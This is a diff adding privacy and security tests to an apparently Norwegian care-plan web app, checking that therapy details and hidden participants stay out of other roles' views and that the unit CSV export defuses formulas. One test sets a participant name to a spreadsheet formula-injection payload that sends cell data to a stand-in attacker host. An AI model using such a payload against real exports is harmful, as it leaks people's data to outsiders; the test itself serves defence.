@@ -180,3 +180,83 @@ async def test_exactly_one_coordinator_holds_under_concurrent_requests(live: Liv
         assert sorted(h.status_code for h in handed)[0] == 201, [h.text for h in handed]
         assert [h.status_code for h in handed].count(201) == 1, [h.text for h in handed]
         assert len(await coordinators(live, plan)) == 1
+
+
+SECRETS = ("Berit", "Tone", "DPS", "terapi", "Behandling", "Samtaler", "Psykisk", "psykisk")
+
+
+async def test_the_school_learns_nothing_of_therapy_and_nobody_of_a_hidden_participant(
+    live: LiveServer,
+) -> None:
+    """Everything in Charlotte's plan falls due at once, and Charlotte keeps Berit (DPS)
+    from the rest of the group. The school (edit on its own section) reads its worklist,
+    inbox, the group and its e-mail digest: none names Berit, Tone, DPS or the therapy
+    section. The coordinator (consent to every section) sees the therapy measure, but
+    not who is responsible for it."""
+    demo = await load_demo_into(live)
+    charlotte = demo.charlotte
+    berit = demo.person(charlotte, "berit")["id"]
+    async with live.http(demo.token(charlotte, "charlotte")) as http:
+        hidden = await http.patch(
+            f"/api/plans/{charlotte['id']}/participants/{berit}", json={"hidden": True}
+        )
+        assert hidden.status_code == 200, hidden.text
+    async with live.services.sessionmaker() as db, db.begin():
+        yesterday = live.clock().date() - timedelta(days=1)
+        await db.execute(
+            update(MeasureRow)
+            .where(MeasureRow.plan_id == charlotte["id"])
+            .values(evaluate_by=yesterday, ends=yesterday)
+        )
+    assert (await Reminders(live.services).run_once()).ran
+    for key, secrets in (("skole", SECRETS), ("hilde", ("Berit", "Lund", "berit"))):
+        async with live.http(demo.token(charlotte, key)) as http:
+            for path in ("/api/worklist", "/api/inbox", f"/api/plans/{charlotte['id']}/group"):
+                answer = await http.get(path)
+                assert answer.status_code == 200, (key, path, answer.text)
+                for secret in secrets:
+                    assert secret not in answer.text, (key, path, secret)
+    school = [r["kind"] for r in (await _rows(live, demo.token(charlotte, "skole")))]
+    assert school == ["measure-overdue"]  # its own measure, nothing else
+    therapy = [
+        r
+        for r in await _rows(live, demo.token(charlotte, "hilde"))
+        if r["title"] == "Samtaler hos DPS"
+    ]
+    assert [r["who"] for r in therapy] == [None]
+    for letter in letters(live.settings.outbox_dir):
+        if str(letter["To"]) in ("ola.strand@example.org", "hilde.dahl@example.org"):
+            for secret in SECRETS:
+                assert secret not in body_of(letter)
+
+
+async def _rows(live: LiveServer, token: str) -> list[dict[str, object]]:
+    async with live.http(token) as http:
+        return list((await http.get("/api/worklist")).json()["rows"])
+
+
+async def test_the_unit_csv_runs_no_formula_and_names_only_coordinators(live: LiveServer) -> None:
+    """A coordinator's name is typed by people; in the unit's CSV it must never be a
+    formula when opened in a spreadsheet, and the page names no one but coordinators."""
+    demo = await load_demo_into(live)
+    per = demo.per
+    maria = demo.person(per, "maria")["id"]
+    async with live.http(demo.token(per, "per")) as http:
+        renamed = await http.patch(
+            f"/api/plans/{per['id']}/participants/{maria}",
+            json={"name": '=HYPERLINK("http://evil.example/?"&A1,"Maria")'},
+        )
+        assert renamed.status_code == 200, renamed.text
+    async with live.http(demo.data["unit"]["token"]) as http:
+        page = await http.get("/api/unit")
+        exported = await http.get("/api/unit/export")
+    assert page.status_code == exported.status_code == 200
+    for cell in (c for line in exported.text.splitlines()[1:] for c in line.split(";")):
+        assert cell.lstrip('"')[:1] not in ("=", "+", "-", "@"), cell
+    assert "'=HYPERLINK" in exported.text
+    for secret in (per["title"], demo.charlotte["title"], "Per Hansen", "Siw", "Berit", "Ola"):
+        assert secret not in page.text and secret not in exported.text, secret
+    # Someone in a plan, not in the unit, sees neither.
+    async with live.http(demo.token(per, "maria")) as http:
+        assert (await http.get("/api/unit")).status_code == 403
+        assert (await http.get("/api/unit/export")).status_code == 403
